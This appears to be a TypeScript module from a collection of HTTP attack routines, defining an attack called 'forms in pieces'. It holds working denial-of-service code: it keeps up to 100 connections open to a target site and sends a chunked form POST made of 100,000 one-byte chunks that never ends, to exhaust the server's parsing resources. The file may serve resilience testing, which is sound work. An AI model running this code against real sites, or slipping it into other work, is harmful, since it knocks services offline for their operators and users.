import { keepConnected } from '../connections.ts'
import type { Attack } from '../attack.ts'

const head =
  'POST /v1/moments/sendFeedback HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n'

/** Forms in chunks of one byte, whose bookkeeping could take far more than their bytes; they never end. */
export const attack: Attack = {
  name: 'forms in pieces',
  run: (site, until) =>
    keepConnected(site, until, 100, (socket) => {
      socket.write(head)
      socket.write('1\r\nx\r\n'.repeat(100_000))
    }),
}
